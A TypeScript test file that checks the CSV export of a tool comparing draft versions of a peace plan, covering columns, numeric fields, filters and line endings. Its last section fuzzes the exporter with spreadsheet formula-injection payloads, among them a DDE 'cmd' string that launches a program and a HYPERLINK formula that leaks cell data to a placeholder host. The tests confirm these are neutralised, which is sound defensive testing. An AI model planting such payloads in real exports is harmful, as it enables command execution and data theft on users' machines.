import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compare } from '../../src/compare/compare.ts';
import { wholeText } from '../../src/compare/wording.ts';
import type { Clause, Draft, Report, Variant } from '../../src/model.ts';
import { renderCsv } from '../../src/render/csv/index.ts';
import { normalise } from '../../src/text/tokens.ts';
import { csvRows, readCsv } from '../support/csv.ts';
import { draft } from '../support/draft.ts';
import { generatedPair } from '../support/generated.ts';
import { setting, shippedReport } from '../support/shipped.ts';
import { viewOf } from '../support/view.ts';

const table = (report: Report, ...look: [Parameters<typeof viewOf>[1]?, Parameters<typeof viewOf>[2]?]) =>
  renderCsv(report, viewOf(report, ...look));
const main = shippedReport('v28', 'v20');
const rows = csvRows(table(main));
const of = (level: string, side: 'old' | 'new', refs: string) =>
  rows.find((row) => row.level === level && row[`${side}_refs`] === refs) ?? {};

describe('the table of v28 and v20', () => {
  it('has a row for each change, in the order of the report', () => {
    const points = rows.filter(({ level }) => level === 'point');
    expect(points.map(({ change, kind }) => [change, kind])).toEqual(
      main.changes.map(({ kind }, k) => [String(k + 1), kind]),
    );
  });

  it('has numbers as numbers, where there is one', () => {
    expect(of('point', 'old', '6')).toMatchObject({
      theme: 'army-caps',
      theme_title: 'Limits on the armed forces',
      number_old: '600000',
      number_new: '800000',
      number_difference: '200000',
      number_share: '0.3333',
      number_unit: 'personnel',
      numbers: '600,000 → 800,000 personnel (plus 200,000, plus a third)',
    });
    expect(of('point', 'old', '14').number_old).toBe('');
    expect(of('clause', 'old', '14a')).toMatchObject({
      kind: 'removed',
      number_old: '100000000000',
      number_unit: 'USD',
    });
    expect(table(main)).toContain(',600000,800000,200000,');
  });

  it('says of a point what the report says', () => {
    expect(of('point', 'old', '21')).toMatchObject({
      kind: 'reworded',
      moved: 'false',
      cosmetic: 'false',
      what: 'reworded',
      sentence: 'Point 21 is reworded as point 14.',
      remarks: 'open in v20',
      new_standing: 'open',
      other_themes: 'foreign-forces; enforcement',
      signals: 'condition; quantity',
      old_date: '2025-11-20',
      new_complete: 'false',
    });
    expect(of('point', 'new', '15').new_evidence).toBe('summary');
    expect(of('point', 'old', '7')).toMatchObject({
      what: 'not in v20 as disclosed',
      theme_attention: 'gone quiet',
    });
    expect(of('point', 'new', '5').remarks).toContain('5c: label kept, text deleted in v20');
  });

  it('says of clauses and variants whose they are', () => {
    expect(of('clause', 'old', '21c')).toMatchObject({ new_refs: '14d', asserted: 'true', number_old: '5' });
    expect(of('clause', 'old', '21c').remarks).toMatch(/^link asserted by plancmp maintainers/);
    expect(of('clause', 'new', '14e').new_evidence).toBe('unverified');
    const variants = rows.filter(({ level, new_refs }) => level === 'variant' && new_refs === '14');
    expect(variants.map(({ party, kind }) => [party, kind])).toEqual([
      ['ukraine', 'added'],
      ['us', 'added'],
    ]);
    expect(of('clause', 'old', '20b')).toMatchObject({ kind: 'uncompared', what: 'not compared one by one' });
  });

  it('marks the words that differ', () => {
    expect(of('point', 'old', '6').marked).toContain(
      '[-is limited to 600,000-]{+stays at 800,000 in peacetime+}',
    );
  });

  it('names the clauses that crossed', () => {
    const crossed = csvRows(table(shippedReport('eu28', 'v20'))).filter(({ crossings }) => crossings !== '');
    expect(crossed.find(({ old_refs }) => old_refs === '26')).toMatchObject({
      crossings: '26>17c',
      what: 'in v20 only as 17c',
    });
  });

  it('holds every link whatever a filter shows, and says which it shows', () => {
    const filtered = csvRows(table(main, { themes: ['nato'] }));
    expect(filtered.map(({ shown: _, ...row }) => row)).toEqual(rows.map(({ shown: _, ...row }) => row));
    const shown = filtered.filter(({ level, shown }) => level === 'point' && shown === 'true');
    expect(shown.map(({ old_refs }) => old_refs)).toEqual(['3', '4', '7', '8', '9', '10', '27']);
  });

  it('ends its lines as RFC 4180 has it, and begins with a mark where that is asked for', () => {
    const text = table(main);
    expect(text.split('\r\n').length).toBe(rows.length + 2);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n\ufeff]/);
    expect(table(main, {}, { bom: true })).toBe(`\ufeff${text}`);
  });

  it('has the columns that the README tells of, in its order', () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
    const section = readme.slice(
      readme.indexOf('## The table'),
      readme.indexOf('\n## ', readme.indexOf('## The table') + 1),
    );
    const told = Array.from(
      section.matchAll(/^\| (`[^|]*) \|/gm),
      ([, names = '']) => names.match(/\w+/g) ?? [],
    ).flat();
    expect(told).toEqual(readCsv(table(main))[0]);
  });
});

/** Every clause and variant of a side, with those that stand in a variant. */
function parts({ points }: Draft): (Clause | Variant)[] {
  return points.flatMap(({ clauses, variants }) => [
    ...clauses,
    ...variants.flatMap((variant) => [variant, ...variant.clauses]),
  ]);
}

describe('the table of any two drafts', () => {
  it('has every point, clause and variant of both, whole', () => {
    const law = fc.property(generatedPair, ([old, next]) => {
      const report = compare(old, next, setting());
      const told = csvRows(table(report));
      for (const [side, { points }, all] of [
        ['old', old, parts(old)],
        ['new', next, parts(next)],
      ] as const) {
        const here = (isPoint: boolean) =>
          told.filter(({ level, [`${side}_refs`]: refs }) => (level === 'point') === isPoint && refs !== '');
        const refs = here(true).flatMap((row) => row[`${side}_refs`]?.split('; ') ?? []);
        expect(refs.sort()).toEqual(points.map(({ ref }) => ref).sort());
        const texts = here(true).flatMap((row) => row[`${side}_text`]?.split(' | ').filter(Boolean) ?? []);
        expect(texts.sort()).toEqual(points.map(wholeText).filter(Boolean).sort());
        const words = here(false).flatMap((row) => row[`${side}_text`]?.split(' | ') ?? []);
        // Where points with variants of one party are merged, one of those stands beside each.
        expect([...new Set(words)].sort()).toEqual([...new Set(all.map(wholeText))].sort());
        const isMerged = report.changes.some(({ old: a, new: b }) => a.length + b.length > 2);
        if (!isMerged) expect(words.length).toBe(all.length);
      }
    });
    fc.assert(law);
  });
});

const trigger = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹢﹣﹦﹫]/u;
const opening = fc.constantFrom(
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'],
  ...[
    ' =',
    '\n=',
    '\t=',
    '\r=',
    '\u00a0@',
    '\u3000+',
    '\u200b=',
    '\ufeff=',
    '\u0000-',
    '\u202e=',
    "'",
    '"',
    ',',
  ],
);
const formula = fc.constantFrom(
  'HYPERLINK("http://a.b?"&A1)',
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(A1,B2)',
  ';=1',
  '" ;',
  '',
);
const hostile = fc
  .tuple(opening, formula, fc.string({ unit: 'binary', maxLength: 8 }))
  .map((words) => words.join(''));

describe('a hostile draft', () => {
  const sketch = fc.record({
    title: hostile,
    text: hostile,
    note: hostile,
    themes: fc.array(hostile, { maxLength: 2 }),
    clauses: fc.array(hostile, { maxLength: 2 }),
    variants: fc.dictionary(hostile, hostile, { maxKeys: 1, noNullPrototype: true }),
  });
  const drafts = fc
    .tuple(hostile, fc.array(sketch, { maxLength: 3 }))
    .map(([id, points]) => draft(id, points));

  it('opens no formula in any cell', () => {
    const law = fc.property(drafts, drafts, (old, next) => {
      for (const row of readCsv(table(compare(old, next, { ...setting(), parties: [] }))))
        for (const cell of row)
          if (!/^-?\d+(?:\.\d+)?$/.test(cell)) {
            expect(cell).not.toMatch(trigger);
            expect(cell).not.toMatch(/;\s*[=+@＝＋－＠﹢﹣﹦﹫]|[\r\n\t\0]/u);
          }
    });
    fc.assert(law, { numRuns: 200 });
  });

  it.each([
    ['=1+1', "'=1+1"],
    [' \n=1+1', "'=1+1"],
    ['\t@SUM(A1)', "'@SUM(A1)"],
    ['＝1', "'＝1"],
    ['﹦1', "'﹦1"],
    ['\u200b=1', '\\u{200b}=1'],
    ['a; =1+1', "a; '=1+1"],
    ['a;b, c - d "e"', 'a;b, c - d "e"'],
    ['two\r\n\r\nlines', 'two lines'],
    ['- not agreed', "'- not agreed"],
  ])('%j is in its cell as %j', (text, cell) => {
    const report = compare(draft('a', [{ text }]), draft('b', []), setting());
    expect(csvRows(table(report))[0]?.old_text).toBe(cell);
  });

  it('has its words as they are', () => {
    const words = fc.array(fc.constantFrom('"', ',', ';', "'", 'a', 'é', '中', '😀', '=', '\n', ' '), {
      maxLength: 12,
    });
    const law = fc.property(words, (characters) => {
      const text = `a${characters.join('')}`;
      const report = compare(draft('a', [{ text }]), draft('b', []), setting());
      const cell = csvRows(table(report))[0]?.old_text;
      expect(cell?.replace(/(?<=; ?)'(?==)/g, '')).toBe(normalise(text));
    });
    fc.assert(law);
  });
});
